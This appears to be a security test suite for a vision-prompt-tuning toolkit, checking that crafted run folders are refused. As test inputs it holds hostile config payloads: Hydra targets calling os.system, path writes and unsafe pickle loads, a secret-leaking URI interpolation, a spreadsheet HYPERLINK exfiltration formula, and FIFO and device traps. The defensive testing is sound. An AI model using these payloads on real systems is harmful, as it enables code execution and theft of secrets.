"""A run folder made by someone else is data, never code (issue 26): what vpt-viz, vpt-report and vpt-tune read
from one, attacked as an outsider would with a crafted run folder, and refused without running anything, contacting
anything or hanging."""

from __future__ import annotations

import csv
import http.server
import json
import os
import pickle
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import torch
import yaml
from conftest import TINY_RUN, Payload, make_vit, save_task_checkpoint, write_image

from vpt_lightning.cli.viz import main as vpt_viz
from vpt_lightning.config import compose
from vpt_lightning.protocol.task_protocol import run_protocol
from vpt_lightning.runs.integrity import ConfigMismatchError

pytest.importorskip("sklearn")

SYNTHETIC_DATA = {
    "_target_": "vpt_lightning.data.synthetic.SyntheticDataModule",
    "task": "orientation",
    "num_train": 16,
    "num_val": 8,
    "num_test": 24,
    "seed": 0,
    "split": "tune",
    "batch_size": 8,
    "eval_batch_size": None,
    "num_workers": 0,
    "pin_memory": None,
    "normalization": "imagenet",
}
_OFFLINE_WANDB = {"WANDB_MODE": "offline", "WANDB_SILENT": "true", "WANDB_DISABLE_CODE": "true", "WANDB_API_KEY": ""}


@pytest.fixture(scope="module")
def checkpoint(tmp_path_factory) -> Path:
    """A task checkpoint as vpt-train writes it (tiny ViT, untrained prompts and head), shared by the run folders."""
    return save_task_checkpoint(tmp_path_factory.mktemp("task") / "last.ckpt", num_classes=4)


def make_run(folder: Path, checkpoint: Path, config: dict) -> Path:
    """A run folder: the task checkpoint at ``checkpoints/last.ckpt`` and ``config`` as ``.hydra/config.yaml``."""
    (folder / "checkpoints").mkdir(parents=True)
    (folder / "checkpoints" / "last.ckpt").write_bytes(checkpoint.read_bytes())
    (folder / ".hydra").mkdir()
    (folder / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
    return folder


def viz(args, capsys) -> tuple:
    """``vpt-viz ARGS`` in this process: (exit code, stdout, stderr)."""
    try:
        vpt_viz([str(a) for a in args])
        code = 0
    except SystemExit as exit_:
        code = exit_.code
    captured = capsys.readouterr()
    return code, captured.out, captured.err


# ---- finding 1: vpt-viz tsne instantiated the run's data node ---------------------------------------------------
def test_tsne_never_instantiates_a_target_the_run_folder_names(checkpoint, tmp_path, capsys):
    marker = tmp_path / "written"
    payload = tmp_path / "payload.pkl"
    payload.write_bytes(pickle.dumps(Payload(tmp_path / "payload_ran")))
    attacks = {
        "write_text": {
            "_target_": "pathlib.Path.write_text",
            "self": {"_target_": "pathlib.Path", "_args_": [str(marker)]},
            "data": "written by a run folder",
        },
        "torch_load": {"_target_": "torch.load", "f": str(payload), "weights_only": False},
    }
    for name, data in attacks.items():
        run = make_run(tmp_path / name, checkpoint, {"data": data})
        code, _, err = viz(["tsne", run, "--max-samples", "16"], capsys)
        assert code == 1 and err.count("\n") == 1 and "Traceback" not in err, err
        assert str(run / ".hydra" / "config.yaml") in err and f"data._target_={data['_target_']!r}" in err, err
        assert "is not a registered DataModule" in err, err
    assert not marker.exists() and not (tmp_path / "payload_ran").exists()


def test_tsne_takes_plain_checked_values_only(checkpoint, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("VPT_TEST_SECRET", "s3cret-token")
    cases = {  # a value of the registered DataModule that is not plain data, or not of its type
        "nested": ({"task": {"_target_": "os.system", "_args_": ["true"]}}, "data.task: a mapping"),
        "unknown": ({"no_such_key": 1}, "data.no_such_key: not a parameter of SyntheticDataModule"),
        "type": ({"batch_size": "many"}, "data.batch_size: Value 'many' of type 'str' could not be converted"),
        "list_of_code": ({"num_train": [{"_target_": "os.getcwd"}]}, "data.num_train: a list holding a mapping"),
    }
    for name, (values, message) in cases.items():
        run = make_run(tmp_path / name, checkpoint, {"data": {**SYNTHETIC_DATA, **values}})
        code, _, err = viz(["tsne", run, "--max-samples", "16"], capsys)
        assert code == 1 and err.count("\n") == 1 and message in err and str(run / ".hydra") in err, (name, err)
    # an interpolation is never resolved: the secret the environment holds is never read into a value
    run = make_run(
        tmp_path / "interpolated", checkpoint, {"data": {**SYNTHETIC_DATA, "task": "${oc.env:VPT_TEST_SECRET}"}}
    )
    code, out, err = viz(["tsne", run, "--max-samples", "16"], capsys)
    assert code == 0, err
    assert "data.task='${oc.env:VPT_TEST_SECRET}' is an interpolation, never resolved from a run folder" in err
    assert "s3cret-token" not in out + err
    # the operator's own values win (--data KEY=VALUE), checked alike
    code, out, err = viz(["tsne", run, "--max-samples", "16", "--data", "task=count", "--data", "num_test=17"], capsys)
    assert code == 0 and "interpolation" not in err, err
    code, _, err = viz(["tsne", run, "--data", "num_test=lots"], capsys)
    assert code == 1 and "--data num_test: Value 'lots' of type 'str' could not be converted" in err, err


def test_tsne_still_draws_a_plain_run_folder(checkpoint, tmp_path, capsys):
    from vpt_lightning.runs.run_folder import datamodule_from_run

    run = make_run(tmp_path / "plain", checkpoint, {"data": SYNTHETIC_DATA})
    datamodule = datamodule_from_run(run)
    assert type(datamodule).__name__ == "SyntheticDataModule" and datamodule.num_test == 24
    code, out, err = viz(["tsne", run, "--max-samples", "16"], capsys)
    assert code == 0 and (run / "viz" / "tsne_test.png").is_file(), err


# ---- finding 4: vpt-viz connected to the tracking URI a run folder names, its interpolations resolved ----------
class _Listener(http.server.ThreadingHTTPServer):
    """An HTTP server on 127.0.0.1 standing in for the attacker: records every request it receives."""

    def __init__(self) -> None:
        self.requests = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                listener.requests.append((self.command, self.path, dict(self.headers)))
                body = b'{"error_code": "RESOURCE_DOES_NOT_EXIST", "message": "no"}'
                self.send_response(404)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture
def listener():
    server = _Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def _curves_run(folder: Path, logger: dict) -> Path:
    (folder / "csv").mkdir(parents=True)
    (folder / "csv" / "metrics.csv").write_text(
        "epoch,step,train/loss_epoch,val/top1\n0,1,1.5,\n0,1,,0.25\n1,3,1.2,\n1,3,,0.5\n"
    )
    (folder / ".hydra").mkdir()
    (folder / ".hydra" / "config.yaml").write_text(yaml.safe_dump({"logger": logger}))
    return folder


def test_viz_never_contacts_the_tracking_store_a_run_folder_names(listener, tmp_path, capsys, monkeypatch):
    pytest.importorskip("mlflow")
    pytest.importorskip("wandb")
    for key, value in _OFFLINE_WANDB.items():
        monkeypatch.setenv(key, value)
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.setenv("VPT_TEST_SECRET", "s3cret-token")
    port = listener.server_address[1]
    logger = {
        "mlflow": {"tracking_uri": f"http://127.0.0.1:{port}/${{oc.env:VPT_TEST_SECRET}}", "experiment_name": "x"},
        "wandb": {"project": "${oc.env:VPT_TEST_SECRET}"},
    }
    run = _curves_run(tmp_path / "run", logger)
    code, out, err = viz(["curves", run], capsys)
    assert code == 0, err
    assert listener.requests == []  # nothing received, so never the secret either
    skipped = [line for line in err.splitlines() if "MLflow" in line]
    assert len(skipped) == 1 and "logger.mlflow.tracking_uri" in skipped[0] and "--mlflow-uri" in skipped[0], err
    # W&B: the project name is a value as written, never resolved (it would carry the secret into the run's files)
    written = b"".join(p.read_bytes() for p in (run / "wandb").rglob("*") if p.is_file())
    assert b"s3cret-token" not in written and "s3cret-token" not in out + err
    # the operator names the store: the figure goes there (an MLflow run of the run folder's name, made here)
    from mlflow.tracking import MlflowClient

    store = f"sqlite:///{tmp_path / 'mlflow.db'}"
    client = MlflowClient(tracking_uri=store)
    experiment = client.create_experiment("x", artifact_location=(tmp_path / "artifacts").as_uri())
    mlflow_run = client.create_run(experiment, run_name="run")
    code, out, err = viz(["curves", run, "--mlflow-uri", store], capsys)
    assert code == 0 and f"logged to mlflow run {mlflow_run.info.run_id}" in out, out + err
    assert [a.path for a in client.list_artifacts(mlflow_run.info.run_id, "viz")] == ["viz/curves.png"]
    assert listener.requests == []


# ---- finding 12: FIFOs, devices, huge files and huge images in what vpt-report and vpt-viz read ------------------
SEVERAL_COMMANDS = """
import importlib, json, sys
for command, args in json.loads(sys.argv[1]):
    print("=== next command", file=sys.stderr, flush=True)
    try:
        code = importlib.import_module(f"vpt_lightning.cli.{command}").main(args)
    except SystemExit as exit_:
        code = exit_.code
    print(f"=== exit {code}", file=sys.stderr, flush=True)
"""


def test_fifos_devices_and_huge_files_are_refused_never_read(checkpoint, tmp_path):
    def protocol_folder(name: str, summary_kind: str) -> Path:
        folder = tmp_path / name / "vtab_dtd" / "protocol" / "vpt_deep"
        folder.mkdir(parents=True)
        summary = folder / "summary.json"
        if summary_kind == "fifo":
            os.mkfifo(summary)  # opening it for reading waits for a writer for ever
        elif summary_kind == "zero":
            summary.symlink_to("/dev/zero")  # reading it never ends
        else:
            with open(summary, "wb") as handle:  # a sparse 2 GiB file: costs no disk, reading it would fill memory
                handle.truncate(2 * 2**30)
        return tmp_path / name

    fifo, zero, huge = (protocol_folder(n, n) for n in ("fifo", "zero", "huge"))
    results_fifo = tmp_path / "results_fifo" / "run"
    results_fifo.mkdir(parents=True)
    os.mkfifo(results_fifo / "results.json")
    run = make_run(tmp_path / "run", checkpoint, {"data": SYNTHETIC_DATA})
    images = {}
    for name in ("pipe", "zero", "huge"):
        images[name] = tmp_path / f"images_{name}"
        write_image(images[name] / "a.png", seed=0, size=(32, 32))
    os.mkfifo(images["pipe"] / "b.png")
    (images["zero"] / "b.png").symlink_to("/dev/zero")
    from PIL import Image

    Image.new("L", (5000, 4000)).save(images["huge"] / "b.png")  # 20 M pixels in a small file
    commands = [
        ("report", [fifo], "summary.json: a FIFO, not a regular file: not read"),
        ("report", [zero], "summary.json: a character device, not a regular file: not read"),
        ("report", [huge], f"summary.json: {2 * 2**30} bytes is over the limit of"),
        ("report", [tmp_path / "results_fifo"], "results.json: a FIFO, not a regular file: not read"),
        ("viz", ["ablation", fifo], "summary.json: a FIFO, not a regular file: not read"),
        ("viz", ["ablation", zero], "summary.json: a character device, not a regular file: not read"),
        ("viz", ["attention", run, "--images", images["pipe"]], "b.png: a FIFO, not a regular file: not read"),
        ("viz", ["attention", run, "--images", images["zero"]], "b.png: a character device, not a regular file"),
        ("viz", ["attention", run, "--images", images["huge"]], "b.png: 5000x4000 = 20000000 pixels is more than"),
    ]
    done = subprocess.run(
        [sys.executable, "-c", SEVERAL_COMMANDS, json.dumps([[c, [str(a) for a in args]] for c, args, _ in commands])],
        env={**os.environ, "PYTHONPATH": os.pathsep.join([str(Path(__file__).parents[1] / "src"), *sys.path])},
        capture_output=True,
        text=True,
        timeout=300,  # a hang is a failure, not a stuck test run
    )
    outputs = done.stderr.split("=== next command")[1:]
    assert done.returncode == 0 and len(outputs) == len(commands), done.stderr[-3000:]
    for (command, args, message), stderr in zip(commands, outputs):
        assert "=== exit 1" in stderr and message in stderr, (command, args, stderr)
        assert stderr.strip().splitlines()[0].startswith(f"vpt-{command}: error: ") and "Traceback" not in stderr
    assert not (run / "viz" / "attention.png").exists()


# ---- finding 14: a CSV field over the csv module's limit ----------------------------------------------------------
def test_a_huge_csv_field_is_a_one_line_error_naming_the_file(tmp_path, capsys):
    run = _curves_run(tmp_path / "run", {})
    metrics = run / "csv" / "metrics.csv"
    metrics.write_text("epoch,step,train/loss_epoch,val/top1\n0,1,1.5,\n" + f'0,1,"{"x" * 200_000}",\n')
    code, _, err = viz(["curves", run], capsys)
    assert code == 1 and err.count("\n") == 1 and "Traceback" not in err, err
    assert f"{str(metrics)!r}: line 3: field larger than field limit" in err, err


def test_report_csv_escapes_the_names_a_summary_gives(tmp_path, capsys):
    from vpt_lightning.cli.report import main as vpt_report

    folder = tmp_path / "protocol"
    folder.mkdir()
    task, tuning = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")', "@vpt"
    summary = {
        "task_name": task,
        "tuning": tuning,
        "method": "vpt_deep",
        "test_top1_per_seed": {"1": 0.5, "2": 0.7},
        "test_top1": {"mean": 0.6, "std": 0.1414},
        "trainable_params": 10,
        "trainable_percent": 0.5,
    }
    (folder / "summary.json").write_text(json.dumps(summary))
    assert vpt_report([str(folder)]) == 0
    capsys.readouterr()
    with open(folder / "report.csv", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["task"] == "'" + task and row["tuning"] == "'" + tuning and row["test_top1_mean"] == "60.00"


# ---- finding 7: vpt-tune reused runs of another backbone saved under the same path --------------------------------
def test_vpt_tune_never_mixes_runs_of_two_backbones_under_one_path(tmp_path):
    weights = tmp_path / "backbone.pth"
    torch.save(make_vit(seed=0, depth=2).state_dict(), weights)
    grid = [*TINY_RUN, f"backbone.checkpoint_path={weights}", "protocol.base_lr=[1]", "protocol.weight_decay=[0]"]
    out = tmp_path / "protocol"
    first = run_protocol(compose([*grid, "protocol.seeds=[42]"], config_name="tune"), out)
    seed42 = out / "final" / "lr1_wd0" / "seed42" / "results.json"
    # another backbone saved over the same file: same config, other weights
    torch.save(make_vit(seed=1, depth=2).state_dict(), weights)
    both_seeds = compose([*grid, "protocol.seeds=[42,43]"], config_name="tune")
    with pytest.raises(ConfigMismatchError, match=r"sweep/lr1_wd0/results.json' was trained on another backbone") as e:
        run_protocol(both_seeds, out)
    recorded = json.loads(seed42.read_text())["backbone_identity"]
    assert "fingerprint: " in str(e.value) and repr(recorded["fingerprint"]) in str(e.value)
    assert "--force" in str(e.value)
    assert not (out / "final" / "lr1_wd0" / "seed43").exists()  # nothing ran on the mixed set-up
    # --force (protocol.restart=true) reruns them on the current backbone: every run of the summary on one backbone
    forced = compose([*grid, "protocol.seeds=[42,43]", "protocol.restart=true"], config_name="tune")
    summary = run_protocol(forced, out)
    identities = {json.loads(p.read_text())["backbone_identity"]["fingerprint"] for p in out.rglob("results.json")}
    assert len(identities) == 1 and identities != {recorded["fingerprint"]}
    assert set(summary["test_top1_per_seed"]) == {"42", "43"} and first["test_top1_per_seed"].keys() == {"42"}


def test_an_interrupted_run_on_another_backbone_is_not_resumed(tmp_path):
    weights = tmp_path / "backbone.pth"
    torch.save(make_vit(seed=0, depth=2).state_dict(), weights)
    grid = [*TINY_RUN, f"backbone.checkpoint_path={weights}", "protocol.base_lr=[1]", "protocol.weight_decay=[0]"]
    cfg = compose([*grid, "protocol.seeds=[42]"], config_name="tune")
    out = tmp_path / "protocol"
    run_protocol(cfg, out)
    for done in [*out.rglob("results.json"), out / "summary.json"]:
        done.unlink()  # every run stopped after its last checkpoint, before its results were written
    torch.save(make_vit(seed=1, depth=2).state_dict(), weights)
    with pytest.raises(ConfigMismatchError, match=r"sweep/lr1_wd0/checkpoints/last.ckpt' was trained on another"):
        run_protocol(cfg, out)
    forced = compose([*grid, "protocol.seeds=[42]", "protocol.restart=true"], config_name="tune")
    run_protocol(forced, out)  # --force: trained afresh on the current backbone
    assert len({json.loads(p.read_text())["backbone_identity"]["fingerprint"] for p in out.rglob("results.json")}) == 1
